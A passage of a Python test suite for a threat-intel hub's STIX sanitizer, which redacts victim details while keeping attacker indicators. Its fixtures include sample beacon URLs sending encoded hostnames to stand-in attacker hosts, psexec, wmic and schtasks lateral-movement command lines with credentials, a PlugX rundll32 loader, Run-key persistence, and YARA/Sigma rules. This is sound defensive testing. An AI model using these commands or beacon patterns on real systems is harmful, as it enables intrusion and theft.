"""Structured victim channels: beacons, analysis tooling, command lines, files, markings,
attacker accounts and small sectors."""

from __future__ import annotations

import base64
import ipaddress
import json
from typing import Any

import pytest
import stix2
from hypothesis import given, settings
from hypothesis import strategies as st

from hub.sanitize import MemberProfile, Policy, SectorRef, objects, sanitize
from hub.sanitize.engine import HUB_MEMBER_NAME
from hub.sanitize.ids import deterministic_sco_id
from hub.sanitize.markings import HUB_STATEMENT, hub_statement_id
from hub.sanitize.observables import DATA_FOLDER_RE
from hub.sanitize.parameters import ParameterRedactor, _decodings
from tests.hub.sanitize_corpus import HUB, SECRET, SECTOR

MEMBER = MemberProfile(
    member_key="kumotori",
    names=("Kumotori Heavy Industries", "雲取重工業"),
    dns_domains=("kumotori-hi.co.jp",),
    email_domains=("mail.kumotori-hi.jp",),
    ip_ranges=(ipaddress.ip_network("133.242.10.0/24"),),
    ad_domains=("KMTRCORP",),
    hostname_patterns=("kmtws-*",),
    terms=("Project Hoshizora",),
)
T = "2024-03-05T10:17:23.456Z"
ME = "identity--00000000-0000-4000-8000-000000000001"
SDO = {"spec_version": "2.1", "created": T, "modified": T, "created_by_ref": ME}
SCO = {"spec_version": "2.1"}


def i(stix_type: str, n: int) -> str:
    return f"{stix_type}--11111111-2222-4333-8444-{n:012d}"


def me() -> dict[str, Any]:
    return {
        **SDO,
        "type": "identity",
        "id": ME,
        "name": "Kumotori Heavy Industries CSIRT",
        "identity_class": "organization",
    }


def observed(*refs: str, n: int = 900) -> dict[str, Any]:
    return {
        **SDO,
        "type": "observed-data",
        "id": i("observed-data", n),
        "first_observed": T,
        "last_observed": T,
        "number_observed": 1,
        "object_refs": list(refs),
    }


def run(
    objs: list[dict[str, Any]],
    policy: Policy | None = None,
    sector: SectorRef = SECTOR,
    profile: MemberProfile = MEMBER,
) -> Any:
    return sanitize(
        objs, profile, policy or Policy(), secret=SECRET, hub_identity=HUB, sector=sector
    )


def parse(objs: list[dict[str, Any]]) -> None:
    stix2.parse(
        {"type": "bundle", "id": "bundle--0c7b5b88-8ff7-4a4d-aa9d-feb398cd0062", "objects": objs},
        allow_custom=False,
    )


def blob(result: Any) -> str:
    return json.dumps(result.objects, ensure_ascii=False).lower()


def of_type(result: Any, stix_type: str) -> list[dict[str, Any]]:
    return [o for o in result.objects if o["type"] == stix_type]


def rules(result: Any) -> dict[str, int]:
    counts: dict[str, int] = result.report.counts_by_rule
    return counts


def idempotent(result: Any, **kw: Any) -> None:
    again = run(result.objects, **kw)
    assert json.dumps(again.objects, sort_keys=True) == json.dumps(result.objects, sort_keys=True)


# Beacons ---------------------------------------------------------------------------------

B64_HOST = base64.b64encode(b"KMTWS-0231.kumotori-hi.co.jp").decode()
BEACON = (
    f"https://update-check.evil-cdn.top/api/v2/kmtws-0231/check.php?user=t.yamada"
    f"&id={B64_HOST}&ip=10.20.1.44&v=3.1&os=win10"
)


def test_beacon_url_keeps_the_attacker_shape_and_loses_the_victim() -> None:
    objs = [me(), {**SCO, "type": "url", "id": i("url", 1), "value": BEACON}, observed(i("url", 1))]
    result = run(objs)
    parse(result.objects)
    url = of_type(result, "url")[0]
    assert url["value"] == (
        "https://update-check.evil-cdn.top/api/v2/[REDACTED:hostname]/check.php?"
        "user=[REDACTED:username]&id=[REDACTED:domain]&ip=[REDACTED:ip]&v=3.1&os=win10"
    )
    assert url["id"] == deterministic_sco_id(url)
    assert rules(result)["victim-parameter"] == 4
    assert B64_HOST.lower() not in blob(result)
    idempotent(result)


def test_http_request_extension_headers_and_request_value() -> None:
    cookie = "sid=" + base64.b64encode(b"KMTRCORP\\t.yamada").decode() + "; lang=ja"
    traffic = {
        **SCO,
        "type": "network-traffic",
        "id": i("network-traffic", 1),
        "dst_ref": i("ipv4-addr", 1),
        "protocols": ["tcp", "http"],
        "dst_port": 443,
        "extensions": {
            "http-request-ext": {
                "request_method": "post",
                "request_value": "/gate.php?pc=KMTWS-0231&g=7",
                "request_header": {
                    "Host": "update-check.evil-cdn.top",
                    "Cookie": cookie,
                    "User-Agent": "Mozilla/4.0 (compatible; MSIE 8.0)",
                    "Referer": "http://intra.kumotori-hi.co.jp/portal",
                },
            }
        },
    }
    objs = [
        me(),
        {**SCO, "type": "ipv4-addr", "id": i("ipv4-addr", 1), "value": "45.77.12.9"},
        traffic,
        observed(i("network-traffic", 1), i("ipv4-addr", 1)),
    ]
    result = run(objs)
    parse(result.objects)
    ext = of_type(result, "network-traffic")[0]["extensions"]["http-request-ext"]
    assert ext["request_value"] == "/gate.php?pc=[REDACTED:hostname]&g=7"
    headers = ext["request_header"]
    assert headers["Host"] == "update-check.evil-cdn.top"
    assert headers["User-Agent"] == "Mozilla/4.0 (compatible; MSIE 8.0)"
    assert headers["Cookie"].startswith("sid=[REDACTED:") and headers["Cookie"].endswith("lang=ja")
    assert "kumotori" not in blob(result) and "kmtws" not in blob(result)
    idempotent(result)


def test_parameter_redactor_is_linear_on_adversarial_urls() -> None:
    params = ParameterRedactor(lambda text: None)
    for chunk in ("a", ".", "@", "a-", " ", "=", "&", "/", "%41", "QUFB"):
        text = "http://evil.top/" + chunk * (1 << 18)
        assert params.url("value", text) == text


# Analysis tooling ------------------------------------------------------------------------


def analysis_bundle() -> list[dict[str, Any]]:
    vm, os_, tool, shared = (i("software", n) for n in (1, 2, 3, 4))
    sample = i("file", 1)
    return [
        me(),
        {**SCO, "type": "software", "id": vm, "name": "KHI-SBX-Win10-Gold", "version": "4.2"},
        {
            **SCO,
            "type": "software",
            "id": os_,
            "name": "Windows 10 Enterprise",
            "version": "22H2",
            "vendor": "Microsoft",
        },
        {**SCO, "type": "software", "id": tool, "name": "Sysmon", "version": "15.0"},
        {**SCO, "type": "software", "id": shared, "name": "Office 2016", "version": "16.0.4266"},
        {
            **SCO,
            "type": "file",
            "id": sample,
            "name": "invoice_0305.exe",
            "hashes": {"SHA-256": "b" * 64},
        },
        {
            **SDO,
            "type": "malware-analysis",
            "id": i("malware-analysis", 1),
            "product": "Kumotori Sandbox Appliance",
            "version": "3.4.1",
            "configuration_version": "khi-prod-2024.02",
            "modules": ["khi-office-unpacker"],
            "analysis_engine_version": "9.1",
            "analysis_definition_version": "20240305.2",
            "submitted": T,
            "analysis_started": T,
            "analysis_ended": T,
            "host_vm_ref": vm,
            "operating_system_ref": os_,
            "installed_software_refs": [tool, shared],
            "result": "malicious",
            "sample_ref": sample,
        },
        {**SDO, "type": "vulnerability", "id": i("vulnerability", 1), "name": "CVE-2017-11882"},
        {
            **SDO,
            "type": "relationship",
            "id": i("relationship", 1),
            "relationship_type": "has",
            "source_ref": shared,
            "target_ref": i("vulnerability", 1),
        },
        observed(vm, os_, tool, shared, sample),
    ]


def test_analysis_tooling_is_generalised_and_its_software_dropped() -> None:
    result = run(analysis_bundle())
    parse(result.objects)
    analysis = of_type(result, "malware-analysis")[0]
    assert analysis["product"] == "sandbox"
    for prop in (
        "version",
        "configuration_version",
        "modules",
        "analysis_engine_version",
        "analysis_definition_version",
        "submitted",
        "host_vm_ref",
        "operating_system_ref",
        "installed_software_refs",
    ):
        assert prop not in analysis
    assert analysis["result"] == "malicious" and analysis["analysis_started"] == T
    names = {s["name"] for s in of_type(result, "software")}
    assert names == {"Office 2016"}  # the one a relationship also describes
    assert "khi" not in blob(result) and "kumotori" not in blob(result)
    assert rules(result)["analysis-software"] == 3
    idempotent(result)


def test_analysis_tooling_policies() -> None:
    kept = of_type(
        run(analysis_bundle(), Policy(malware_analysis_tooling="keep")), "malware-analysis"
    )[0]
    assert kept["version"] == "3.4.1" and "host_vm_ref" in kept
    dropped = of_type(
        run(analysis_bundle(), Policy(malware_analysis_tooling="drop")), "malware-analysis"
    )[0]
    assert "analysis_started" not in dropped and dropped["product"] == "sandbox"


def test_a_public_service_keeps_its_name() -> None:
    objs = [
        me(),
        {**SCO, "type": "file", "id": i("file", 1), "hashes": {"MD5": "a" * 32}},
        {
            **SDO,
            "type": "malware-analysis",
            "id": i("malware-analysis", 1),
            "product": "VirusTotal",
            "result": "malicious",
            "sample_ref": i("file", 1),
        },
    ]
    assert of_type(run(objs), "malware-analysis")[0]["product"] == "VirusTotal"


# Command lines, files --------------------------------------------------------------------


def process(n: int, line: str) -> dict[str, Any]:
    return {**SCO, "type": "process", "id": i("process", n), "command_line": line}


def test_command_lines_lose_internal_hosts_accounts_and_passwords() -> None:
    lines = [
        "psexec.exe \\\\10.20.1.12 -u KMTRCORP\\adm-tanaka -p Summer2024! -s cmd.exe",
        "wmic /node:FS01 /user:adm-tanaka /password:Summer2024! process call create rundll32",
        "mstsc.exe /v:45.77.12.9",
        "powershell Invoke-Command -ComputerName kmt-dc01 -ScriptBlock {whoami}",
        "net use Z: \\\\kmtws-fs01\\経理 /user:KMTRCORP\\suzuki",
        "schtasks /create /s 185.220.101.4 /tn upd /tr c:\\programdata\\upd.exe",
    ]
    objs = [
        me(),
        *(process(n, line) for n, line in enumerate(lines)),
        observed(*(i("process", n) for n in range(len(lines)))),
    ]
    result = run(objs)
    parse(result.objects)
    out = {o["id"]: o["command_line"] for o in of_type(result, "process")}
    text = " ".join(out.values()).lower()
    for secret in ("10.20.1.12", "tanaka", "summer2024", "fs01", "kmt-dc01", "suzuki", "kmtrcorp"):
        assert secret not in text, secret
    for attacker in ("mstsc.exe /v:45.77.12.9", "/s 185.220.101.4", "rundll32", "upd.exe"):
        assert attacker in text, attacker
    idempotent(result)


def test_the_victim_s_own_files_and_folders_go_the_attacker_s_stay() -> None:
    share, docs, temp = i("directory", 1), i("directory", 2), i("directory", 3)
    objs = [
        me(),
        {**SCO, "type": "directory", "id": share, "path": "\\\\fileserv02\\経理部\\2024"},
        {**SCO, "type": "directory", "id": docs, "path": "C:\\Users\\yamada\\Documents\\見積"},
        {**SCO, "type": "directory", "id": temp, "path": "C:\\Users\\yamada\\AppData\\Local\\Temp"},
        {
            **SCO,
            "type": "file",
            "id": i("file", 1),
            "name": "給与一覧_2024年3月.xlsx",
            "parent_directory_ref": share,
        },
        {
            **SCO,
            "type": "file",
            "id": i("file", 2),
            "name": "見積書_北陸工場.docx",
            "parent_directory_ref": docs,
            "hashes": {"MD5": "c" * 32},
        },
        {
            **SCO,
            "type": "file",
            "id": i("file", 3),
            "name": "svchost32.exe",
            "parent_directory_ref": temp,
            "hashes": {"SHA-256": "d" * 64},
        },
        {**SCO, "type": "mutex", "id": i("mutex", 1), "name": "Kumotori Heavy Industries"},
        {**SCO, "type": "mutex", "id": i("mutex", 2), "name": "Global\\PlugX_8812"},
        observed(
            share, docs, temp, *(i("file", n) for n in (1, 2, 3)), i("mutex", 1), i("mutex", 2)
        ),
    ]
    result = run(objs)
    parse(result.objects)
    out = blob(result)
    for secret in ("給与一覧", "見積", "fileserv02", "経理部", "yamada"):
        assert secret not in out, secret
    assert [f["name"] for f in of_type(result, "file")] == ["svchost32.exe"]
    assert [m["name"] for m in of_type(result, "mutex")] == ["Global\\PlugX_8812"]
    assert rules(result)["victim-file"] == 4 and rules(result)["victim-observable"] == 1
    idempotent(result)


# Attacker accounts -----------------------------------------------------------------------


def test_accounts_attributed_to_the_attacker_are_kept() -> None:
    created, related, victim = i("user-account", 1), i("user-account", 2), i("user-account", 3)
    objs = [
        me(),
        {
            **SCO,
            "type": "user-account",
            "id": created,
            "account_login": "svc_backup01",
            "account_type": "unix",
        },
        {**SCO, "type": "user-account", "id": related, "account_login": "r00tkit_op"},
        {
            **SCO,
            "type": "user-account",
            "id": victim,
            "account_login": "t.yamada",
            "display_name": "Yamada Taro",
        },
        {
            **SCO,
            "type": "email-addr",
            "id": i("email-addr", 1),
            "value": "t.yamada@mail.kumotori-hi.jp",
            "display_name": "Yamada Taro",
        },
        {
            **SDO,
            "type": "indicator",
            "id": i("indicator", 1),
            "valid_from": T,
            "pattern_type": "stix",
            "pattern": "[user-account:account_login = 'svc_backup01' AND "
            "user-account:account_type = 'unix']",
        },
        {**SDO, "type": "threat-actor", "id": i("threat-actor", 1), "name": "BlackTech"},
        {
            **SDO,
            "type": "relationship",
            "id": i("relationship", 1),
            "relationship_type": "uses",
            "source_ref": i("threat-actor", 1),
            "target_ref": related,
        },
        {
            **SDO,
            "type": "relationship",
            "id": i("relationship", 2),
            "relationship_type": "related-to",
            "source_ref": victim,
            "target_ref": i("threat-actor", 1),
        },
        observed(created, related, victim, i("email-addr", 1)),
    ]
    result = run(objs)
    parse(result.objects)
    logins = sorted(a["account_login"] for a in of_type(result, "user-account"))
    assert logins == ["r00tkit_op", "svc_backup01"]
    assert "svc_backup01" in of_type(result, "indicator")[0]["pattern"]
    assert "yamada" not in blob(result)
    assert rules(result)["attacker-account"] == 2


# Markings --------------------------------------------------------------------------------

STATEMENT = i("marking-definition", 1)
UNUSED = i("marking-definition", 2)
AMBER = "marking-definition--f88d31f6-486f-44da-b317-01333bde0b82"


def marking_bundle(text: str) -> list[dict[str, Any]]:
    return [
        me(),
        {
            "type": "marking-definition",
            "spec_version": "2.1",
            "id": STATEMENT,
            "created": T,
            "created_by_ref": ME,
            "definition_type": "statement",
            "definition": {"statement": text},
        },
        {
            "type": "marking-definition",
            "spec_version": "2.1",
            "id": UNUSED,
            "created": T,
            "definition_type": "statement",
            "definition": {"statement": "Internal use only"},
        },
        {
            **SDO,
            "type": "malware",
            "id": i("malware", 1),
            "name": "PlugX",
            "is_family": True,
            "object_marking_refs": [AMBER, STATEMENT],
        },
        {
            **SDO,
            "type": "attack-pattern",
            "id": i("attack-pattern", 1),
            "name": "Phishing",
            "granular_markings": [{"marking_ref": STATEMENT, "selectors": ["name"]}],
        },
    ]


def test_member_statements_become_the_hub_statement() -> None:
    text = "Copyright 2024 KHI-CSIRT (Kumotori Heavy Industries). Contact soc@kumotori-hi.co.jp"
    result = run(marking_bundle(text))
    parse(result.objects)
    assert "khi-csirt" not in blob(result) and "kumotori" not in blob(result)
    [statement] = of_type(result, "marking-definition")
    assert statement["id"] == hub_statement_id(SECRET)
    assert statement["definition"] == {"statement": HUB_STATEMENT}
    malware = of_type(result, "malware")[0]
    assert malware["object_marking_refs"] == [AMBER, statement["id"]]
    assert result.markings[malware["id"]] == (AMBER, statement["id"])
    pattern = of_type(result, "attack-pattern")[0]
    assert result.markings[pattern["id"]] == (statement["id"],)
    assert rules(result)["member-statement"] == 2  # the unreferenced one too, then dropped
    assert rules(result)["marking-definition"] == 1  # the unreferenced one
    # Another member's statement is the same hub statement: no id links a member's reports.
    other = MemberProfile(member_key="other", names=("Other Co",))
    again = run(marking_bundle("(c) Other Co SOC"), profile=other)
    assert of_type(again, "marking-definition")[0]["id"] == statement["id"]
    idempotent(result)


# Small sectors ---------------------------------------------------------------------------


def sighting_bundle() -> list[dict[str, Any]]:
    return [
        me(),
        {
            **SDO,
            "type": "indicator",
            "id": i("indicator", 1),
            "valid_from": T,
            "pattern_type": "stix",
            "pattern": "[domain-name:value = 'update-check.evil-cdn.top']",
        },
        {
            **SDO,
            "type": "sighting",
            "id": i("sighting", 1),
            "sighting_of_ref": i("indicator", 1),
            "where_sighted_refs": [ME],
        },
    ]


def test_a_small_sector_is_generalised_to_a_member_of_the_hub() -> None:
    small = SectorRef("shipbuilding", "Shipbuilding sector", member_count=2)
    result = run(sighting_bundle(), sector=small)
    parse(result.objects)
    sighting = of_type(result, "sighting")[0]
    [where] = sighting["where_sighted_refs"]
    identity = next(o for o in result.objects if o["id"] == where)
    assert identity["name"] == HUB_MEMBER_NAME
    assert "shipbuilding" not in blob(result)
    assert rules(result)["small-sector"] == 1
    idempotent(result, sector=small)
    large = run(sighting_bundle(), sector=SectorRef("energy", "Energy", member_count=3))
    assert rules(large).get("small-sector") is None
    assert any(o.get("name") == "Energy" for o in large.objects)
    strict = run(
        sighting_bundle(),
        Policy(min_sector_members=5),
        sector=SectorRef("energy", "Energy", member_count=4),
    )
    assert rules(strict)["small-sector"] == 1


# Properties ------------------------------------------------------------------------------

planted = st.text(alphabet="bcdfghjklmnpqrstvwxz", min_size=5, max_size=9).map("zq".__add__)
attacker = st.text(alphabet="abcdefghijklmnoprstuvwy", min_size=5, max_size=9)
param_key = st.sampled_from(["host", "pc", "user", "uname", "domain", "q", "data", "id"])


@settings(max_examples=40, deadline=None)
@given(
    secret=planted,
    evil=attacker,
    key=param_key,
    encoding=st.sampled_from(["plain", "b64", "hex", "url"]),
    submitter=st.booleans(),
)
def test_a_member_value_in_a_parameter_analysis_field_or_statement_never_survives(
    secret: str, evil: str, key: str, encoding: str, submitter: bool
) -> None:
    # The planted member is the submitter, or another member the report mentions.
    planted_member = MemberProfile(
        member_key="p",
        names=(f"{secret} Corp",),
        dns_domains=(f"{secret}.co.jp",),
        hostname_patterns=(f"{secret}-*",),
    )
    host = f"{secret}-ws{len(evil)}.{secret}.co.jp"
    value = {
        "plain": host,
        "b64": base64.b64encode(host.encode()).decode(),
        "hex": host.encode().hex(),
        "url": host.replace(".", "%2E"),
    }[encoding]
    url = f"http://{evil}.top/{evil}/gate.php?{key}={value}&v=2"
    objs: list[dict[str, Any]] = [
        {**SCO, "type": "url", "id": i("url", 1), "value": url},
        {**SCO, "type": "file", "id": i("file", 1), "hashes": {"MD5": "e" * 32}},
        {**SCO, "type": "software", "id": i("software", 1), "name": f"{secret} sandbox"},
        {
            **SDO,
            "type": "malware-analysis",
            "id": i("malware-analysis", 1),
            "product": f"{secret} Sandbox",
            "version": f"{secret}-1",
            "modules": [secret],
            "host_vm_ref": i("software", 1),
            "result": "malicious",
            "sample_ref": i("file", 1),
            "object_marking_refs": [STATEMENT],
        },
        {
            "type": "marking-definition",
            "spec_version": "2.1",
            "id": STATEMENT,
            "created": T,
            "definition_type": "statement",
            "definition": {"statement": f"(c) {secret} CSIRT"},
        },
        observed(i("url", 1), i("file", 1), i("software", 1)),
    ]
    profile = planted_member if submitter else MemberProfile(member_key="s", names=("Zzyx Ltd",))
    others = [] if submitter else [planted_member]

    def run_once(objs: list[dict[str, Any]]) -> Any:
        return sanitize(
            objs, profile, Policy(), secret=SECRET, hub_identity=HUB, sector=SECTOR, others=others
        )

    result = run_once(objs)
    parse(result.objects)
    out = blob(result)
    assert secret not in out and value.lower() not in out
    assert secret not in json.dumps(result.report.to_json()).lower()  # the report is safe too
    assert f"http://{evil}.top/{evil}/gate.php?{key}=" in out and "&v=2" in out
    url_obj = of_type(result, "url")[0]
    assert url_obj["id"] == deterministic_sco_id(url_obj)
    again = run_once(result.objects)
    assert json.dumps(again.objects, sort_keys=True) == json.dumps(result.objects, sort_keys=True)


def test_a_defanged_beacon_loses_its_victim_parameters() -> None:
    value = "hxxp://update-check.evil-cdn[.]top/gate.php?pc=kmtws-0231&os=win10#t.yamada"
    objs = [me(), {**SCO, "type": "url", "id": i("url", 1), "value": value}, observed(i("url", 1))]
    url = of_type(run(objs), "url")[0]
    assert url["value"] == (
        "hxxp://update-check.evil-cdn[.]top/gate.php?pc=[REDACTED:hostname]&os=win10#"
        "[REDACTED:person]"
    ) or url["value"].startswith("hxxp://update-check.evil-cdn[.]top/gate.php?pc=[REDACTED:")
    assert "kmtws" not in url["value"]


# Detection content ----------------------------------------------------------------------

SIGMA = """title: Beacon from finance hosts to update-check
id: 5f0a1b5e-8d3c-4c59-9b9e-0f1d2c3b4a59
status: experimental
author: t.yamada (KHI-CSIRT)
description: Seen on kmtws-0231.kumotori-hi.co.jp
logsource:
  category: proxy
detection:
  selection:
    c-uri|contains: 'update-check.evil-cdn.top/gate.php'
    cs-host: 'kmtws-0231.kumotori-hi.co.jp'
  condition: selection
level: high
"""
YARA = """rule KHI_PlugX_Loader {
  meta:
    author = "t.yamada@mail.kumotori-hi.jp"
    description = "PlugX loader found on kmtws-0231"
  strings:
    $c2 = "update-check.evil-cdn.top"
    $h = "kmtws-0231.kumotori-hi.co.jp"
  condition:
    any of them
}
"""


def test_yara_and_sigma_indicators_are_rewritten_not_string_replaced() -> None:
    objs = [
        me(),
        *(
            {
                **SDO,
                "type": "indicator",
                "id": i("indicator", n),
                "valid_from": T,
                "pattern_type": kind,
                "pattern": text,
            }
            for n, (kind, text) in enumerate((("sigma", SIGMA), ("yara", YARA)), start=1)
        ),
    ]
    result = run(objs)
    parse(result.objects)
    indicators = {o["pattern_type"]: o["pattern"] for o in of_type(result, "indicator")}
    assert set(indicators) == {"sigma", "yara"}
    for text in indicators.values():
        low = text.lower()
        assert "update-check.evil-cdn.top" in low
        assert "kumotori" not in low and "kmtws" not in low and "yamada" not in low
    assert any(c.path.startswith("pattern<") for c in result.report.changes)


def test_a_document_named_after_the_member_goes_a_lure_named_so_stays() -> None:
    data, lure, attached = i("file", 1), i("file", 2), i("file", 3)
    objs = [
        me(),
        {
            **SCO,
            "type": "file",
            "id": data,
            "name": "雲取重工業_取引先一覧.xlsx",
            "hashes": {"SHA-256": "1" * 64},
        },
        {
            **SCO,
            "type": "file",
            "id": lure,
            "name": "Kumotori Heavy Industries bonus.xlsm",
            "hashes": {"SHA-256": "2" * 64},
        },
        {
            **SCO,
            "type": "file",
            "id": attached,
            "name": "雲取重工業_請求書.pdf",
            "hashes": {"SHA-256": "3" * 64},
        },
        {
            **SDO,
            "type": "indicator",
            "id": i("indicator", 1),
            "valid_from": T,
            "pattern_type": "stix",
            "pattern": f"[file:hashes.'SHA-256' = '{'3' * 64}']",
        },
        observed(data, lure, attached),
    ]
    result = run(objs)
    parse(result.objects)
    names = sorted(f["name"] for f in of_type(result, "file"))
    assert names == ["[REDACTED:member-name] bonus.xlsm", "[REDACTED:member-name]_請求書.pdf"]
    assert "1" * 64 not in blob(result) and "2" * 64 in blob(result)


ADVERSARIAL = ("a", ".", "@", "a-", " ", "/users/", "-u ", "/node:", "\\\\", "QUFB", "%41")


def test_channel_expressions_are_linear_on_one_megabyte_inputs() -> None:
    # No timing: a super-linear expression would not let the suite finish.
    for chunk in ADVERSARIAL:
        text = chunk * ((1 << 20) // len(chunk))
        assert DATA_FOLDER_RE.search(text) is None or chunk == "/users/"
        assert _decodings(text)[0] == text
    for chunk in ("-u ", "/node:", "a-"):
        text = chunk * ((1 << 20) // len(chunk))
        result = run([me(), process(1, text), observed(i("process", 1))])
        assert len(of_type(result, "process")) <= 1


def test_a_sandbox_report_keeps_the_malware_s_behaviour_and_loses_the_sandbox() -> None:
    ids = {
        name: i(t, n)
        for n, (name, t) in enumerate(
            [
                ("sample", "file"),
                ("vm", "software"),
                ("os", "software"),
                ("proc", "process"),
                ("child", "process"),
                ("c2ip", "ipv4-addr"),
                ("vmip", "ipv4-addr"),
                ("c2", "domain-name"),
                ("flow", "network-traffic"),
                ("drop", "file"),
                ("dropdir", "directory"),
                ("beacon", "url"),
                ("key", "windows-registry-key"),
            ],
            start=1,
        )
    }
    objs = [
        me(),
        {
            **SCO,
            "type": "file",
            "id": ids["sample"],
            "name": "請求書_0305.exe",
            "hashes": {"SHA-256": "5" * 64, "MD5": "6" * 32},
        },
        {**SCO, "type": "software", "id": ids["vm"], "name": "KHI-SBX-07 gold image"},
        {**SCO, "type": "software", "id": ids["os"], "name": "Windows 10", "version": "1909"},
        {
            **SCO,
            "type": "process",
            "id": ids["proc"],
            "pid": 4120,
            "command_line": "C:\\Users\\khi-sbx-admin\\Desktop\\請求書_0305.exe /install",
            "cwd": "C:\\Users\\khi-sbx-admin\\Desktop\\",
            "child_refs": [ids["child"]],
            "environment_variables": {"COMPUTERNAME": "KHI-SBX-07", "USERNAME": "khi-sbx-admin"},
        },
        {
            **SCO,
            "type": "process",
            "id": ids["child"],
            "pid": 4188,
            "command_line": "rundll32.exe C:\\ProgramData\\svc\\plug.dll,Start -s update-check."
            "evil-cdn.top -ComputerName KHI-SBX-07",
        },
        {**SCO, "type": "ipv4-addr", "id": ids["c2ip"], "value": "45.77.12.9"},
        {**SCO, "type": "ipv4-addr", "id": ids["vmip"], "value": "192.168.56.101"},
        {
            **SCO,
            "type": "domain-name",
            "id": ids["c2"],
            "value": "update-check.evil-cdn.top",
            "resolves_to_refs": [ids["c2ip"]],
        },
        {
            **SCO,
            "type": "network-traffic",
            "id": ids["flow"],
            "src_ref": ids["vmip"],
            "dst_ref": ids["c2ip"],
            "dst_port": 443,
            "protocols": ["ipv4", "tcp", "http"],
            "extensions": {
                "http-request-ext": {
                    "request_method": "get",
                    "request_value": "/news.php?hostname=KHI-SBX-07&user=khi-sbx-admin&ver=2",
                    "request_header": {"Host": "update-check.evil-cdn.top"},
                }
            },
        },
        {**SCO, "type": "directory", "id": ids["dropdir"], "path": "C:\\ProgramData\\svc"},
        {
            **SCO,
            "type": "file",
            "id": ids["drop"],
            "name": "plug.dll",
            "parent_directory_ref": ids["dropdir"],
            "hashes": {"SHA-256": "7" * 64},
        },
        {
            **SCO,
            "type": "url",
            "id": ids["beacon"],
            "value": "https://update-check.evil-cdn.top/news.php?hostname=KHI-SBX-07&ver=2",
        },
        {
            **SCO,
            "type": "windows-registry-key",
            "id": ids["key"],
            "key": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
            "values": [
                {"name": "svc", "data": "C:\\ProgramData\\svc\\plug.dll", "data_type": "REG_SZ"}
            ],
        },
        {
            **SDO,
            "type": "malware-analysis",
            "id": i("malware-analysis", 1),
            "product": "KHI Sandbox",
            "version": "5.1",
            "host_vm_ref": ids["vm"],
            "operating_system_ref": ids["os"],
            "analysis_started": T,
            "result": "malicious",
            "sample_ref": ids["sample"],
            "analysis_sco_refs": [
                ids[k]
                for k in (
                    "proc",
                    "child",
                    "c2ip",
                    "vmip",
                    "c2",
                    "flow",
                    "drop",
                    "dropdir",
                    "beacon",
                    "key",
                )
            ],
        },
        {
            **SDO,
            "type": "malware",
            "id": i("malware", 1),
            "name": "PlugX",
            "is_family": True,
            "sample_refs": [ids["sample"]],
        },
    ]
    result = run(objs)
    parse(result.objects)
    out = blob(result)
    for secret in ("khi-sbx", "khi sandbox", "192.168.56.101", "gold image"):
        assert secret not in out, secret
    for kept in (
        "update-check.evil-cdn.top",
        "45.77.12.9",
        "5" * 64,
        "7" * 64,
        "plug.dll",
        "c:\\\\programdata\\\\svc",
        "/news.php?hostname=[redacted:hostname]",
        "currentversion\\\\run",
        "plugx",
        "請求書_0305.exe",
    ):
        assert kept in out, kept
    analysis = of_type(result, "malware-analysis")[0]
    assert analysis["product"] == "sandbox" and len(analysis["analysis_sco_refs"]) == 9
    idempotent(result)


def test_a_detection_rule_that_cannot_be_checked_is_not_published(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(objects, "_rewriter", lambda kind: None)
    objs = [
        me(),
        {
            **SDO,
            "type": "indicator",
            "id": i("indicator", 1),
            "valid_from": T,
            "pattern_type": "yara",
            "pattern": YARA,
        },
    ]
    result = run(objs)
    assert of_type(result, "indicator") == []
    assert rules(result)["detection-unsupported"] == 1


def test_a_detection_rule_that_does_not_parse_is_not_published() -> None:
    objs = [
        me(),
        {
            **SDO,
            "type": "indicator",
            "id": i("indicator", 1),
            "valid_from": T,
            "pattern_type": "sigma",
            "pattern": "title: [unclosed",
        },
    ]
    result = run(objs)
    assert of_type(result, "indicator") == []
    assert rules(result)["invalid-pattern"] == 1


def test_a_payload_run_from_a_person_s_desktop_stays() -> None:
    desk = i("directory", 1)
    objs = [
        me(),
        {**SCO, "type": "directory", "id": desk, "path": "C:\\Users\\yamada\\Desktop"},
        {
            **SCO,
            "type": "file",
            "id": i("file", 1),
            "name": "請求書_0305.exe",
            "parent_directory_ref": desk,
            "hashes": {"SHA-256": "8" * 64},
        },
        {
            **SCO,
            "type": "file",
            "id": i("file", 2),
            "name": "議事録.docx",
            "parent_directory_ref": desk,
        },
        observed(desk, i("file", 1), i("file", 2)),
    ]
    result = run(objs)
    parse(result.objects)
    assert [f["name"] for f in of_type(result, "file")] == ["請求書_0305.exe"]
    assert "parent_directory_ref" not in of_type(result, "file")[0]  # the folder was theirs
    assert "yamada" not in blob(result) and "議事録" not in blob(result)


def test_internal_only_host_names_are_the_victim_s() -> None:
    objs = [
        me(),
        {**SCO, "type": "domain-name", "id": i("domain-name", 1), "value": "dc01.hq.local"},
        {**SCO, "type": "domain-name", "id": i("domain-name", 2), "value": "cdn.evil-local.top"},
        {**SCO, "type": "url", "id": i("url", 1), "value": "http://wiki.intranet/x?id=3"},
        process(1, "powershell -c Enter-PSSession -ComputerName fs02.hq.local"),
        process(2, "net use Z: \\\\fs03.hq.local\\share$ && copy \\\\203.0.113.9\\x\\a.exe ."),
        observed(
            i("domain-name", 1), i("domain-name", 2), i("url", 1), i("process", 1), i("process", 2)
        ),
    ]
    result = run(objs)
    parse(result.objects)
    assert [d["value"] for d in of_type(result, "domain-name")] == ["cdn.evil-local.top"]
    assert of_type(result, "url") == []
    assert "hq.local" not in blob(result) and "\\\\\\\\203.0.113.9\\\\x" in blob(result)


def test_a_windows_default_machine_name_in_a_beacon_is_the_victim_s() -> None:
    packed = base64.b64encode(b"DESKTOP-8F3K2JQ|admin|10.0.19045").decode()
    value = f"http://45.77.12.9:8080/submit.php?id={packed}&d=WIN-4J2K9L0M1N2&v=1"
    objs = [me(), {**SCO, "type": "url", "id": i("url", 1), "value": value}, observed(i("url", 1))]
    url = of_type(run(objs), "url")[0]["value"]
    assert url == (
        "http://45.77.12.9:8080/submit.php?id=[REDACTED:hostname]&d=[REDACTED:hostname]&v=1"
    )


def test_an_account_observed_with_attacker_infrastructure_is_the_attacker_s() -> None:
    acc, c2 = i("user-account", 1), i("ipv4-addr", 1)
    objs = [
        me(),
        {**SCO, "type": "ipv4-addr", "id": c2, "value": "45.77.12.9"},
        {**SCO, "type": "user-account", "id": acc, "account_login": "ftpdrop"},
        {**SDO, "type": "infrastructure", "id": i("infrastructure", 1), "name": "C2 server"},
        {
            **SDO,
            "type": "relationship",
            "id": i("relationship", 1),
